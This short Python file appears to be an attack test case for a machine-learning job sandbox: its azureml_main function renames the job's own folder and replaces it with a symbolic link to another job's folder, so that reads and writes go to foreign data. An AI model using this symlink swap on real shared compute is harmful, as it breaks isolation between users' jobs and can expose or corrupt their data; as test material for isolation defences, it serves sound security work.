"""Swaps the folder of its job for a link to a foreign folder that looks like one."""

import os

from attack import BAIT, attack, job_folder


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    folder = job_folder()
    os.rename(folder, folder + "-hostile-left")
    os.symlink(BAIT["foreign_job"], folder)
    return ""
